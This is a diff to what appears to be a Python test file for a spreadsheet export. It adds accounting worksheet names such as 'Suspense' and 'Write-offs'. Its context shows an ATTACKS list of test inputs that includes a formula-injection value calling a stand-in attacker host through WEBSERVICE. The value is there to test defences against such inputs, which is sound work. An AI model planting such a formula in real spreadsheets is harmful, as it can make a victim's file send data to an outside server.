@@ -42,8 +42,10 @@ ATTACKS = [
     "=WEBSERVICE(\"http://evil.example\")", "0012", "1E5", "NA",
 ]  # fmt: skip
 SHEETS = [
-    "Lead", "Tie-out", "Findings", "Reconciliations", "Bank to book", "Ageing", "Ageing invoice date", "Exceptions", "Proposals",
-    "Allocations", "Breaks", "Decisions", "Repeats", "Small differences", "Sources", "Rejects",
+    "Lead", "Tie-out", "Findings", "Reconciliations", "Bank to book", "Movements", "Suspense", "Cut-off", "Changed since",
+    "Certification", "Ageing", "Ageing invoice date", "Worklist", "Promises", "Disputes", "Late fees", "Write-offs", "Adjustments",
+    "Figures", "Service levels", "Exceptions", "Proposals", "Allocations", "Breaks", "Decisions", "Overpayments", "Refunds",
+    "Credit balances", "Repeats", "Small differences", "Sources", "Rejects", "Forecast", "Forecast items",
 ]  # fmt: skip
 NS = {
     "m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
